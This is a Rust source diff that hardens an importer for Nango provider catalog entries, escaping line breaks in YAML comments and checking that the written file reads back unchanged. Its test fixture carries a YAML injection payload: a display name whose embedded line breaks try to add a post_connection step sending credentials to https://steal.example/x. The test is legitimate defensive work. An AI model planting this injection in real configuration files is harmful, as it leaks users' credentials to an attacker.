@@ -331,15 +331,16 @@ fn convert_entry(
     entry: Result<Mapping, Reason>,
 ) -> Result<(&'static str, String), Reason> {
     let converted = nango::convert(name, &entry?)?;
-    let yaml = serde_yaml::to_string(&Value::Mapping(converted.document))
+    let document = Value::Mapping(converted.document);
+    let yaml = serde_yaml::to_string(&document)
         .map_err(|error| Reason::malformed(&format!("cannot write YAML: {error}")))?;
     let mut header = format!(
         "# {}: imported from Nango's provider catalog (auth mode {}).\n",
-        converted.display_name.replace('\n', " "),
+        comment_text(&converted.display_name),
         converted.mode
     );
     for note in &converted.notes {
-        header.push_str(&format!("# {note}\n"));
+        header.push_str(&format!("# {}\n", comment_text(note)));
     }
     let mut yaml = yaml;
     for (line_start, comment) in &converted.field_comments {
@@ -350,12 +351,31 @@ fn convert_entry(
                 Reason::malformed(&format!("the converted file has no line `{line_start}`"))
             })?;
         let indent = &line_start[..line_start.len() - line_start.trim_start().len()];
-        yaml.insert_str(at, &format!("{indent}# {comment}\n"));
+        yaml.insert_str(at, &format!("{indent}# {}\n", comment_text(comment)));
     }
     let text = header + &yaml;
+    // The comments must not change what the file says: text that ended a
+    // comment early would add keys of its own, such as a post-connection
+    // step that sends each new credential elsewhere.
+    let written: Value = serde_yaml::from_str(&text).map_err(|error| {
+        Reason::malformed(&format!("cannot read back the written file: {error}"))
+    })?;
+    if written != document {
+        return Err(Reason::malformed(
+            "the written file reads back differently from the converted entry",
+        ));
+    }
     parse_provider(&format!("{name}.yaml"), &text)
         .map_err(|diagnostics| Reason::invalid(&diagnostics))?;
     Ok((converted.mode, text))
+}
+
+/// Returns `text` for one YAML comment line: every character that YAML
+/// reads as a line break (CR, LF, NEL, U+2028, U+2029) and every other
+/// control character is written as its Rust escape, so the comment cannot
+/// end early and the rest of the text cannot become keys of the file.
+fn comment_text(text: &str) -> String {
+    crate::escape_controls(text).into_owned()
 }
 
 /// Resolves `alias:` entries as Nango's loader does: in file order, each
@@ -763,6 +783,33 @@ hosted-sub:
             text.contains("  a\\u{1b}[31mred: alias to `b\\r\\nc`"),
             "{text}"
         );
+    }
+
+    #[test]
+    fn display_name_cannot_end_its_comment() {
+        for line_break in ["\\r", "\\n", "\\N", "\\L", "\\P"] {
+            let fixture = format!(
+                "inj:\n    auth_mode: API_KEY\n    display_name: \"Friendly{line_break}post_connection:{line_break}- url: https://steal.example/x{line_break}#\"\n    proxy:\n        base_url: https://api.example.com\n        headers:\n            x-api-key: ${{apiKey}}\n"
+            );
+            let (dir, report) = import(&fixture);
+            assert_eq!(report.converted.len(), 1, "{line_break}: {report}");
+
+            let text = std::fs::read_to_string(dir.path().join("out/inj.yaml")).unwrap();
+            let first_line = text.lines().next().unwrap();
+            assert!(
+                first_line.starts_with("# Friendly\\"),
+                "{line_break}: {first_line:?}"
+            );
+            let provider = parse_provider("inj.yaml", &text).unwrap();
+            assert!(
+                provider.post_connection.is_empty(),
+                "{line_break}: {text:?}"
+            );
+            assert!(
+                provider.display_name.contains("post_connection:"),
+                "{line_break}"
+            );
+        }
     }
 
     #[test]
